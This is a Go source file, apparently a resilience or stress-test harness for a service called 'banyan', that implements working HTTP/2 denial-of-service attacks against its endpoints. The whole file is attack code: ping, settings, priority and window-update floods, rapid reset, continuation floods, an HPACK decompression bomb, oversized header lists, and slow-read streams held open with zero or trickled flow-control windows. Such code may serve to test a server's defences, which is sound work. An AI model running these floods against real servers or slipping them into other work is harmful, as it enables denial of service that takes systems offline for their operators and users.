package siege

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// An opener makes a connection that speaks HTTP/2.
type opener func(ctx context.Context, t *Target) (*wire, error)

// flood sends on each connection until the node ends it.
func flood(open opener, quiet bool, send func(w *wire) error) func(context.Context, *Target) {
	return func(ctx context.Context, t *Target) {
		t.each(ctx, func(ctx context.Context) error {
			w, err := open(ctx, t)
			if err != nil {
				return err
			}
			defer w.end()
			if !quiet {
				w.drain()
			}
			for ctx.Err() == nil {
				if err := send(w); err != nil {
					return err
				}
				t.Sent.Add(1)
			}
			return nil
		})
	}
}

const (
	asJSON = "application/json"
	asGRPC = "application/grpc"
)

// ask is a request that is answered with little, in the words of the door.
func (w *wire) ask() []byte {
	if w.host == "link" {
		return w.headers("POST", "/banyan.link.v1.LinkService/Execute", asGRPC)
	}
	return w.headers("GET", "/healthz", asJSON)
}

// frameFloods are floods that any end that speaks HTTP/2 can make. The node is their server, or with server its client, who opens no streams.
func frameFloods(client bool) map[string]func(w *wire) error {
	all := map[string]func(w *wire) error{
		"ping flood": func(w *wire) error { return w.framer.WritePing(false, [8]byte{1}) },
		"settings flood": func(w *wire) error {
			return w.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096})
		},
		"settings of 2,700 entries": func(w *wire) error {
			return w.framer.WriteRawFrame(http2.FrameSettings, 0, 0, bytes.Repeat([]byte{0, 1, 0, 0, 16, 0}, 2700))
		},
		"window games on the connection": func(w *wire) error { return w.framer.WriteWindowUpdate(0, 1) },
		"unknown frames":                 func(w *wire) error { return w.framer.WriteRawFrame(0xbe, 0, 0, nil) },
		"priority flood": func(w *wire) error {
			w.stream += 2
			return w.framer.WritePriority(w.stream, http2.PriorityParam{StreamDep: 1, Weight: 200, Exclusive: true})
		},
	}
	if !client {
		return all
	}
	all["rapid reset"] = func(w *wire) error {
		id, err := w.request(w.ask(), true)
		if err != nil {
			return err
		}
		return w.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	all["continuation flood"] = func(w *wire) error {
		if w.held == 0 {
			w.held, w.stream = w.stream, w.stream+2
			return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.held, BlockFragment: w.ask()})
		}
		return w.framer.WriteContinuation(w.held, false, nil)
	}
	all["continuation of 16 KiB each"] = func(w *wire) error {
		if w.held == 0 {
			w.held, w.stream = w.stream, w.stream+2
			return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.held, BlockFragment: w.ask()})
		}
		return w.framer.WriteContinuation(w.held, false, literal(strings.Repeat("x", 16000)))
	}
	all["empty data"] = func(w *wire) error {
		if err := w.hold(); err != nil {
			return err
		}
		return w.framer.WriteData(w.held, false, nil)
	}
	all["window games on a stream"] = func(w *wire) error {
		if err := w.hold(); err != nil {
			return err
		}
		return w.framer.WriteWindowUpdate(w.held, 1)
	}
	all["huge header lists"] = func(w *wire) error {
		more := bytes.Repeat(literal(strings.Repeat("y", 500)), 30)
		_, err := w.request(append(w.ask(), more...), true)
		return err
	}
	all["HPACK bomb"] = func(w *wire) error { // one entry of 4 KiB, and 12,000 times its number
		block := append(w.ask(), indexed(strings.Repeat("z", 3900))...)
		_, err := w.request(append(block, bytes.Repeat([]byte{0x80 | 62}, 12_000)...), true)
		return err
	}
	all["streams that never end"] = func(w *wire) error {
		_, err := w.request(w.post(), false)
		return err
	}
	return all
}

// hold opens one stream, once.
func (w *wire) hold() (err error) {
	if w.held == 0 {
		w.held, err = w.request(w.post(), false)
	}
	return err
}

// post is a request whose body never comes.
func (w *wire) post() []byte {
	if w.host == "link" {
		return w.ask()
	}
	return w.headers("POST", "/banyan.api.v1.SessionService/Login", asJSON)
}

// literal is a header that is not kept, indexed one that is.
func literal(value string) []byte { return field(0x00, value) }
func indexed(value string) []byte { return field(0x40, value) }

func field(form byte, value string) []byte {
	block := append([]byte{form, 1, 'x'}, hpackLength(len(value))...)
	return append(block, value...)
}

// hpackLength is a length that is not Huffman coded.
func hpackLength(n int) []byte {
	if n < 127 {
		return []byte{byte(n)}
	}
	return binary.AppendUvarint([]byte{127}, uint64(n-127))
}

// held opens streams whose answers are large, and takes none of them: with windows of nothing, or opening them byte by byte.
func held(open opener, window uint32, drip bool) func(context.Context, *Target) {
	return func(ctx context.Context, t *Target) {
		t.each(ctx, func(ctx context.Context) error {
			w, err := open(ctx, t)
			if err != nil {
				return err
			}
			defer w.end()
			w.drain()
			if err := w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
				return err
			}
			for range 250 {
				if err := w.large(t); err != nil {
					return err
				}
				t.Sent.Add(1)
			}
			if err := w.out.Flush(); err != nil {
				return err
			}
			for id := uint32(1); ctx.Err() == nil; id += 2 {
				if !drip {
					if err := w.framer.WritePing(false, [8]byte{}); err != nil {
						return err
					}
				} else if err := w.framer.WriteWindowUpdate(w.stream-1-id%500, 1); err != nil {
					return err
				}
				if err := w.out.Flush(); err != nil {
					return err
				}
				pause(ctx, 5*time.Millisecond)
			}
			return nil
		})
	}
}

// large asks for much.
func (w *wire) large(t *Target) error {
	if w.host == "link" {
		_, err := w.request(w.headers("POST", "/banyan.link.v1.LinkService/Follow", asGRPC), false)
		return err
	}
	id, err := w.request(w.headers("POST", "/banyan.api.v1.TreeService/List", asJSON), false)
	if err != nil {
		return err
	}
	return w.framer.WriteData(id, true, []byte(`{"path":"`+t.Path+`","recursive":true,"limit":1000}`))
}
